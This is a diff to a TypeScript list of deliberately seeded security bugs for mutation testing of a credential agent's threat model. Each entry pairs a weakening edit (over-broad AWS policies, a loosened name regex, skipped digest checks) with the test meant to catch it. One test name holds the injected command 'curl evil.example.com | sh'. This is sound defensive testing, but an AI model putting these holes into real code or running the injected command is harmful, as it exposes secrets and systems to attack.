@@ -1,6 +1,6 @@
 /** Bugs against what docs/threat-model.md says under "A control plane that was taken over". */
 import type { SeededBug } from '../seeded-bug.ts'
-import { agent, credentialPath } from './sources.ts'
+import { agent, cli, contract, credentialPath } from './sources.ts'
 
 export const takenControlPlane: readonly SeededBug[] = [
   {
@@ -57,5 +57,126 @@ export const takenControlPlane: readonly SeededBug[] = [
     by: 'known === undefined',
     testFile: `${credentialPath}/secret/aws/secrets-manager.test.ts`,
     test: 'S21: the region that becomes a host > is never one outside the table, nor one of another partition',
+  },
+  {
+    name: 'report why, in words',
+    rule: 'S6',
+    file: `${contract}/problem.ts`,
+    replace: 'return { code: this.code, facts }',
+    by: `const { reason } = this.facts
+    return { code: this.code, facts: { ...facts, ...(reason !== undefined && { reason }) } }`,
+    testFile: `${contract}/problem.test.ts`,
+    test: 'a report always fits its schema, and carries no fact that is free text (S6)',
+  },
+  {
+    name: 'keep what the parser said of a secret',
+    rule: 'S6',
+    file: `${credentialPath}/match/login-document.ts`,
+    replace: `catch {
+    // V8's message quotes its input, so it stops here.
+    throw notJson()`,
+    by: `catch (error) {
+    throw Object.assign(notJson(), { cause: error })`,
+    testFile: `${credentialPath}/match/login-document.test.ts`,
+    test: 'what a refusal tells > S5, S6: no part of the document is in the problem: case 1',
+  },
+  {
+    name: 'use a listed secret for any registry',
+    rule: 'S13',
+    file: `${credentialPath}/policy/secret-allowed.ts`,
+    replace: 'referenceGranted(allowed_secrets,',
+    by: 'referenceGranted(allowed_secrets.map(({ reference }) => ({ reference })),',
+    testFile: `${credentialPath}/policy/read-node-policy.test.ts`,
+    test: 'what the file allows > S13: allowed_secrets names pairs of secret and registry',
+  },
+  {
+    name: 'read a secret that the owner’s file does not list',
+    rule: 'S13',
+    file: `${credentialPath}/pull/read-login.ts`,
+    replace: 'if (secretAllowed(policy, reference, registryOf(image).key, context)) return reference',
+    by: 'if (secretAllowed(policy, reference, registryOf(image).key, context) || policy !== null) return reference',
+    testFile: `${credentialPath}/pull/read-login.test.ts`,
+    test: "the login > that the node's file does not list is not read (S13)",
+  },
+  {
+    name: 'say nothing of a secret that any registry may have',
+    rule: 'S7',
+    file: `${agent}/doctor/warnings.ts`,
+    replace: 'policy.allowed_secrets.some((',
+    by: 'policy.allowed_secrets.every((',
+    testFile: `${agent}/doctor/warnings.test.ts`,
+    test: 'S7: one sentence for each way to a password that a taken control plane would have > no list, or an entry for any registry',
+  },
+  {
+    name: 'print a command in the name of a project',
+    rule: 'S7',
+    file: `${contract}/access-policy.ts`,
+    replace: 'project: z.string().regex(/^[a-z0-9][a-z0-9.:-]{0,127}$/)',
+    by: 'project: z.string().regex(/^[a-z0-9][ -~]{0,127}$/)',
+    testFile: `${cli}/commands/policy/hostile-policy.test.ts`,
+    test: 'S7: a policy for Google Cloud is not taken > with {"project":"p; curl evil.example.com | sh"}',
+  },
+  {
+    name: 'grant the nodes any action',
+    rule: 'S7',
+    file: `${contract}/access-policy.ts`,
+    replace: "Action: z.enum(['secretsmanager:GetSecretValue', 'kms:Decrypt'])",
+    by: "Action: Plain as unknown as z.ZodEnum<{ 'kms:Decrypt': 'kms:Decrypt' }>",
+    testFile: `${cli}/commands/policy/hostile-policy.test.ts`,
+    test: 'S7: a policy for AWS is not taken > where the nodes’ role may do {"Action":"iam:PassRole"}',
+  },
+  {
+    name: 'grant the nodes any secret',
+    rule: 'S7',
+    file: `${contract}/access-policy.ts`,
+    replace: ': secretArn.test(arn)',
+    by: ": arn !== ''",
+    testFile: `${cli}/commands/policy/hostile-policy.test.ts`,
+    test: 'S7: a policy for AWS is not taken > where the nodes’ role may do {"Resource":"*"}',
+  },
+  {
+    name: 'decrypt for another service',
+    rule: 'S7',
+    file: `${contract}/access-policy.ts`,
+    replace: 'z.array(z.string().regex(/^secretsmanager\\.',
+    by: 'z.array(z.string().regex(/^[a-z0-9]+\\.',
+    testFile: `${cli}/commands/policy/hostile-policy.test.ts`,
+    test: 'S7: a policy for AWS is not taken > where the nodes’ role may decrypt under the condition {"StringEquals":{"kms:ViaService":["s3.us-east-1.amazonaws.com"]}}',
+  },
+  {
+    name: 'let in another role than the nodes’',
+    rule: 'S7',
+    file: `${contract}/access-policy.ts`,
+    replace: 'statement.Principal?.AWS === role_arn && may(statement)',
+    by: 'may(statement)',
+    testFile: `${cli}/commands/policy/hostile-policy.test.ts`,
+    test: 'S7: a policy that lets in another than the one it is for is not taken > on a secret of AWS, or its key: {"Principal":{"AWS":"arn:aws:iam::999999999999:role/villain"}}',
+  },
+  {
+    name: 'let the key of a secret decrypt others',
+    rule: 'S7',
+    file: `${contract}/access-policy.ts`,
+    replace: 'every((arn) => arn === secret)',
+    by: 'some((arn) => arn === secret)',
+    testFile: `${cli}/commands/policy/hostile-policy.test.ts`,
+    test: 'S7: a policy that lets in another than the one it is for is not taken > nor one that lets its key decrypt more than that secret',
+  },
+  {
+    name: 'run what the tag points to now',
+    rule: 'S17',
+    file: `${credentialPath}/registry/image/resolve-image.ts`,
+    replace: 'wanted.digest ?? wanted.image.digest ?? (await headDigest(session, wanted, signal))',
+    by: '(await headDigest(session, wanted, signal)) ?? wanted.digest ?? wanted.image.digest',
+    testFile: `${credentialPath}/registry/registry-client.test.ts`,
+    test: 'an honest registry > a digest that is given decides, whatever the tag points to',
+  },
+  {
+    name: 'take any bytes for those of a digest',
+    rule: 'S17',
+    file: `${credentialPath}/registry/image/manifest.ts`,
+    replace: 'if (answer.digest !== null && answer.digest !== found) throw corrupt(context)',
+    by: '',
+    testFile: `${credentialPath}/registry/hostile-registry.test.ts`,
+    test: 'S2: a hostile registry > S17: other bytes than the digest says are corrupt',
   },
 ]
